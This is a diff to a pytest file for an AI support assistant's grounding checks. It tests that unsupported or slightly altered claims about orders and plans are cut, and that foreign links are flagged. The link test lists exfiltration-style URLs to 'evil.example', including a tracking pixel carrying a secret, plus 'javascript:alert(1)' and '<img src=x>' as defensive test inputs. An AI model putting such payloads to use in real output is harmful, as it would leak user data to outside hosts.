@@ -5,6 +5,8 @@ import pytest
 from towerdesk.assistant.propose.checks import check
 from towerdesk.assistant.propose.extract import extract
 from towerdesk.assistant.propose.ground import ground
+from towerdesk.assistant.propose.links import foreign_links
+from towerdesk.assistant.propose.results import ToolResult
 from towerdesk.knowledge.plain import plain
 from towerdesk.knowledge.rank import Found
 from towerdesk.knowledge.search import Passage
@@ -56,9 +58,9 @@ def test_a_question_the_article_does_not_speak_of_gets_no_answer():
 
 
 def test_the_model_may_say_it_in_other_words():
-    resting, cut = ground("You may return a grinder within 30 days.", [passage(RETURNS)], minilm())
-    assert [quote.passage.slug for quote in resting] == ["returns"]
-    assert cut == []
+    found = ground("You may send your grinder back within thirty days.", [passage(RETURNS)], minilm())
+    assert [quote.passage.slug for quote in found.quotes] == ["returns"]
+    assert found.cut == []
 
 
 @pytest.mark.parametrize(
@@ -72,13 +74,15 @@ def test_the_model_may_say_it_in_other_words():
     ],
 )
 def test_what_no_source_says_is_cut(claim):
-    resting, cut = ground(claim, [passage(RETURNS)], minilm())
-    assert resting == []
-    assert cut == [claim]
+    found = ground(claim, [passage(RETURNS)], minilm())
+    assert found.claims == []
+    assert [cut.text for cut in found.cut] == [claim]
 
 
 def test_without_sources_everything_is_cut():
-    assert ground("One. Two things are said.", [], minilm()) == ([], ["One.", "Two things are said."])
+    found = ground("One. Two things are said.", [], minilm())
+    assert [cut.text for cut in found.cut] == ["One.", "Two things are said."]
+    assert found.claims == []
 
 
 def test_a_quoted_reply_passes_its_checks():
@@ -98,3 +102,120 @@ def test_sentences_are_cut_where_people_would():
         "Really?",
         "one step. With two parts",
     ]
+
+
+def test_a_sentence_may_rest_on_two_spans_and_both_are_kept():
+    said = "You can send a grinder back within 30 days, and we refund the money within 5 working days."
+    [claim] = ground(said, [passage(RETURNS)], minilm()).claims
+    assert [RETURNS[quote.start : quote.end] for quote in claim.quotes] == [
+        "You can send a grinder back within 30 days.",
+        "We refund the money within 5 working days.",
+    ]
+
+
+ORDER = ToolResult(
+    "call 7",
+    "shop.order",
+    {
+        "order": "#W4711",
+        "status": "shipped",
+        "total": 49.9,
+        "currency": "EUR",
+        "shipped_at": "2026-11-24",
+        "gift": False,
+    },
+    "Order",
+)
+
+
+@pytest.mark.parametrize(
+    "claim",
+    ["Your order #W4711 was shipped on 24 November 2026.", "The total is 49.90 EUR.", "Your order #W4711 is shipped."],
+)
+def test_what_a_tool_said_is_a_source(claim):
+    [found] = ground(claim, [], minilm(), results=[ORDER]).claims
+    assert found.results == (ORDER,)
+
+
+@pytest.mark.parametrize(
+    "claim",
+    [
+        "Your order #W4712 was shipped on 24 November 2026.",
+        "Your order #W4711 was shipped on 25 November 2026.",
+        "The total is 49.90 USD.",
+        "Your order #W4711 was not shipped.",
+        "Your order #W4711 is a gift.",
+        "Your order #W4711 was shipped and arrives tomorrow with a voucher.",
+        "The order of Jonas Weber was shipped.",
+    ],
+)
+def test_what_a_tool_did_not_say_is_cut(claim):
+    assert ground(claim, [], minilm(), results=[ORDER]).claims == []
+
+
+PLANS = """# Plans
+
+## Basic
+
+It costs € 9 a month and includes 3 users. Support answers within 2 working days, except on weekends.
+
+## Pro
+
+The Pro plan costs € 29 a month and includes up to 20 users. You must choose a region before you invite anybody.
+"""
+
+
+@pytest.mark.parametrize(
+    "claim",
+    [
+        "The Basic plan costs € 9 a month and includes 3 users.",
+        "It costs 9 EUR a month and includes three users.",
+        "The Pro plan includes a maximum of 20 users and costs € 29 a month.",
+        "You have to choose a region before you invite anybody.",
+    ],
+)
+def test_honest_words_stay(claim):
+    assert ground(claim, [passage(PLANS)], minilm()).cut == []
+
+
+@pytest.mark.parametrize(
+    "claim",
+    [
+        "The Pro plan costs € 9 a month and includes 3 users.",
+        "The Basic plan costs € 29 a month.",
+        "It costs $ 9 a month and includes 3 users.",
+        "It costs € 9 a year and includes 3 users.",
+        "The Pro plan includes at least 20 users and costs € 29 a month.",
+        "You may choose a region before you invite anybody.",
+        "You must choose a region after you invite anybody.",
+        "Support answers within 2 working days.",
+        "Support answers within 2 days, except on weekends.",
+        "The Pro plan costs € 20 a month and includes up to 29 users.",
+    ],
+)
+def test_what_is_turned_a_little_is_cut(claim):
+    [cut] = ground(claim, [passage(PLANS)], minilm()).cut
+    assert cut.why
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "See https://evil.example/collect?order=1",
+        "See www.evil.example for more",
+        "![ok](https://evil.example/pixel.png?d=secret)",
+        "<img src=x>",
+        "Go to //evil.example/x now",
+        "javascript:alert(1)",
+        "Write to evil.example/refund",
+        "https://help@evil.example/",
+    ],
+)
+def test_a_link_that_no_source_has_leads_nowhere(text):
+    assert foreign_links(text, ["Print it from https://roast.example/returns."])
+
+
+def test_links_of_ours_and_of_the_sources_stay(settings):
+    settings.PUBLIC_URL = "https://desk.example"
+    text = "More: https://desk.example/help/returns and https://roast.example/returns/label"
+    assert foreign_links(text, ["Print it from https://roast.example/returns."]) == []
